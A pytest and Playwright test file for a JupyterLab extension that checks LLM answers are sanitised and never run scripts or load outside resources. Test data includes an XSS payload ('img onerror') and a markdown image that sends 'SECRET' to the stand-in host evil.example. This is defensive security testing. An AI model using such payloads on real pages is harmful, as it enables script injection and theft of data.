"""What a model wrote is never run and never loads anything from elsewhere (S1, S2, S3)."""

from __future__ import annotations

import json
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import nbformat
import pytest
from nbformat import v4
from playwright.sync_api import Page, expect

from jupyter_mesh.testing.fake_openai import Behaviour, FakeOpenAI

if TYPE_CHECKING:
    from conftest import Lab, LabPage

pytestmark = pytest.mark.needs("chromium")

HOSTILE: list[str] = json.loads(
    Path(__file__)
    .parent.parent.joinpath("labextension/src/answer/markdown/hostile.fixture.json")
    .read_text("utf8")
)
MIME = "application/vnd.jupyter-mesh.answer+json"

#: Shows each bundle of a file as an output of its own.
SHOW_ALL = f"""
import json
from IPython.display import display
for bundle in json.load(open("bundles.json")):
    display({{"{MIME}": bundle, "text/plain": bundle.get("text", "")}}, raw=True)
"""

#: Everything in the answers that is not on the list of what may be there.
FIND_FORBIDDEN = r"""() => {
  const elements = new Set(('P H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE SPAN DIV TABLE THEAD TBODY '
    + 'TR TH TD STRONG EM DEL SUB SUP KBD MARK U S BR HR A BUTTON BDI ARTICLE SECTION FOOTER '
    + 'DETAILS SUMMARY').split(' '));
  const mathml = new Set(('math semantics annotation mrow mi mn mo ms mtext mspace mfrac msqrt '
    + 'mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle mpadded mphantom '
    + 'menclose merror').split(' '));
  const attributes = /^(class|dir|role|aria-[a-z]+|tabindex|start|type|title|hidden|open)$/;
  const found = [];
  for (const node of document.querySelectorAll('.jp-mesh-Answer *')) {
    if (node.closest('svg') || node.matches('button > span, .jp-mesh-Answer-problem > span')) {
      // JupyterLab's own icons, in the controls that the renderer made
      if (!node.closest('.jp-mesh-IconButton, .jp-mesh-Answer-problem')) found.push(node.outerHTML);
      continue;
    }
    const isMath = node.localName.startsWith('mjx-') || mathml.has(node.localName);
    if (!isMath && !elements.has(node.tagName)) found.push(node.outerHTML);
    if (node.tagName === 'BUTTON' && !node.matches(
        '.jp-mesh-IconButton, .jp-mesh-Answer-chip, .jp-mesh-Answer-more'))
      found.push(node.outerHTML);
    for (const {name, value} of node.attributes) {
      if (name === 'href' && node.tagName === 'A') {
        if (!/^https?:\/\/[^@/]+(\/|$)/.test(value)) found.push(node.outerHTML);
        const isApart = node.rel === 'noopener noreferrer' && node.target === '_blank';
        if (!isApart) found.push(node.outerHTML);
      } else if (['rel', 'target'].includes(name) && node.tagName === 'A') {
      } else if (name === 'data-lm-suppress-shortcuts') {
      } else if (isMath) {
        if (/^(on|data-)|href|^(src|id|name|action|tabindex)$/.test(name)
            || (name === 'style' && /url|position|fixed/.test(value))) found.push(node.outerHTML);
      } else if (!attributes.test(name)) found.push(name + ' of ' + node.outerHTML);
    }
  }
  return found;
}"""

#: What the keyboard can reach in the answers, apart from the renderer's own controls.
FIND_STRAY_STOPS = """() => Array.from(document.querySelectorAll('.jp-mesh-Answer *'))
  .filter(node => node.tabIndex >= 0 && !node.matches(
    'a.jp-mesh-Answer-link, button.jp-mesh-IconButton, button.jp-mesh-Answer-chip, '
    + 'button.jp-mesh-Answer-more, summary, pre, div.jp-mesh-Answer-table'))
  .map(node => node.outerHTML)"""

#: Move over and click whatever is not a link or a control.
POKE = """() => {
  for (const node of document.querySelectorAll('.jp-mesh-Answer *')) {
    for (const type of ['mouseenter', 'mouseover', 'mousemove', 'focusin']) {
      node.dispatchEvent(new MouseEvent(type, {bubbles: true}));
    }
    if (!node.closest('a, button, summary')) {
      node.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
    }
  }
}"""


def answer(number: int, text: str, form: str, **more: Any) -> dict[str, Any]:
    return {
        "version": 1,
        "id": f"{number}-{form}",
        "state": "done",
        "format": form,
        "text": text,
        **more,
    }


def bundles() -> list[dict[str, Any]]:
    """Each hostile text in each form, and in each field that is shown."""
    texts = [
        answer(number, text, form)
        for number, text in enumerate(HOSTILE)
        for form in ("markdown", "text", "code", "json")
    ]
    fields = [
        answer(
            number,
            "Harmless",
            "field",
            state="error",
            reasoning=text,
            model=text,
            requested_model="fast",
            notices=[{"code": text, "message": text}],
            error={"code": text, "message": text},
            cost_usd=text,
            data={text: [text, {"nested": text}]},
        )
        for number, text in enumerate(HOSTILE)
    ]
    comparison = {
        "version": 1,
        "id": "compare",
        "state": "done",
        "compare": [
            answer(n, "\n\n".join(HOSTILE), f"column{n}", model=HOSTILE[n]) for n in (1, 2)
        ],
    }
    streaming = answer(0, "\n\n".join(HOSTILE), "stream", state="streaming")
    return [*texts, *fields, comparison, streaming]


def assert_harmless(page: LabPage) -> None:
    page.page.evaluate(POKE)
    page.page.wait_for_timeout(1000)
    assert page.page.evaluate(FIND_FORBIDDEN) == []
    assert page.page.evaluate(FIND_STRAY_STOPS) == []
    assert page.page.evaluate("window.__ran") is None
    assert page.foreign == []
    expect(page.page.locator(".jp-Dialog")).to_have_count(0)
    expect(page.page.locator(".jp-Terminal")).to_have_count(0)


def await_answers(page: Page, count: int) -> None:
    expect(page.locator(".jp-mesh-Answer-one")).to_have_count(count, timeout=60_000)
    # Typesetting comes last.
    expect(page.locator("mjx-container").first).to_be_attached(timeout=60_000)
    page.wait_for_timeout(1000)


def is_trusted(lab: Lab, name: str) -> bool:
    request = urllib.request.Request(
        f"{lab.url}/api/contents/{name}", headers={"Authorization": f"token {lab.token}"}
    )
    cells = json.load(urllib.request.urlopen(request))["content"]["cells"]
    return all(cell["metadata"].get("trusted") for cell in cells if cell["cell_type"] == "code")


@pytest.mark.timeout(600)
def test_nothing_a_model_wrote_runs_or_loads(open_page: Callable[..., LabPage], lab: Lab) -> None:
    shown = bundles()
    count = len(shown) + 1  # a comparison shows two
    (lab.root / "bundles.json").write_text(json.dumps(shown), "utf8")
    lab.write_notebook("hostile.ipynb", [SHOW_ALL])

    live = open_page()
    live.open_notebook("hostile.ipynb")
    live.run()
    await_answers(live.page, count)
    assert_harmless(live)
    live.save()

    reopened = open_page()
    reopened.open_notebook("hostile.ipynb")
    await_answers(reopened.page, count)
    assert is_trusted(lab, "hostile.ipynb")
    assert_harmless(reopened)
    texts = reopened.page.locator(".jp-mesh-Answer-body").all_text_contents()
    assert texts[:-1] == live.page.locator(".jp-mesh-Answer-body").all_text_contents()[:-1]

    saved = nbformat.read(lab.root / "hostile.ipynb", 4)
    saved.cells.append(v4.new_markdown_cell("Changed by somebody else, so no longer signed."))
    nbformat.write(saved, lab.root / "foreign.ipynb")
    untrusted = open_page()
    untrusted.open_notebook("foreign.ipynb")
    await_answers(untrusted.page, count)
    assert not is_trusted(lab, "foreign.ipynb")
    assert_harmless(untrusted)


def test_nothing_that_comes_through_the_magic_runs_or_loads(
    open_page: Callable[..., LabPage], lab: Lab, upstream: FakeOpenAI
) -> None:
    """The same through the gateway: streamed, in every form, compared, saved and reopened."""
    upstream.default = Behaviour(text="\n\n---\n\n".join(HOSTILE))
    lines = [
        "%%llm",
        "%%llm -f text --no-cache",
        "%%llm --compare campus/qwen3-32b,fast --no-cache",
        "%%llm -f code --no-cache",  # puts the code into a new cell below, so it comes last
    ]
    lab.write_notebook("magic.ipynb", [f"{line}\nWrite something evil." for line in lines])
    live = open_page()
    live.open_notebook("magic.ipynb")
    for index in range(len(lines)):
        live.run(index)
    await_answers(live.page, 5)
    assert len(upstream.requests) == 5
    assert_harmless(live)
    live.save()
    reopened = open_page()
    reopened.open_notebook("magic.ipynb")
    await_answers(reopened.page, 5)
    assert_harmless(reopened)


def test_the_same_as_markdown_would_run_and_load(page: LabPage, lab: Lab) -> None:
    """Shows that the test above can fail: JupyterLab runs Markdown output of a live kernel."""
    lab.write_notebook(
        "control.ipynb",
        [
            "from IPython.display import Markdown, display\n"
            "display(Markdown('<img src=x onerror=\"window.__ran=1\">'\n"
            "                 '![](https://evil.example/?q=SECRET)'))"
        ],
    )
    page.open_notebook("control.ipynb")
    page.run()
    expect(page.cell(0).locator("img")).to_have_count(2)
    page.page.wait_for_timeout(1000)
    assert page.page.evaluate("window.__ran") == 1
    assert page.foreign == ["https://evil.example/?q=SECRET"]


def test_inserting_a_hostile_answer_runs_and_loads_nothing(page: LabPage, lab: Lab) -> None:
    picture = "![x](https://evil.example/?q=SECRET) <img src=x onerror=window.__ran=1>"
    code = "```python\nopen('ran', 'w').close()\n```"
    shown = [answer(0, picture, "markdown"), answer(1, code, "markdown")]
    (lab.root / "bundles.json").write_text(json.dumps(shown), "utf8")
    lab.write_notebook("insert.ipynb", [SHOW_ALL])
    page.open_notebook("insert.ipynb")
    page.run()
    expect(page.answers).to_have_count(2)
    page.answers.nth(1).get_by_role("button", name="Insert this code").click()
    expect(page.notebook.locator(".jp-CodeCell")).to_have_count(2)
    page.answers.nth(0).get_by_role("button", name="Insert as a raw cell").click()
    expect(page.notebook.locator(".jp-RawCell")).to_have_count(1)
    expect(page.cell(2).locator(".jp-InputPrompt")).to_have_text("[ ]:")
    page.page.wait_for_timeout(500)
    assert not (lab.root / "ran").exists()
    assert page.page.evaluate("window.__ran") is None
    assert page.foreign == []
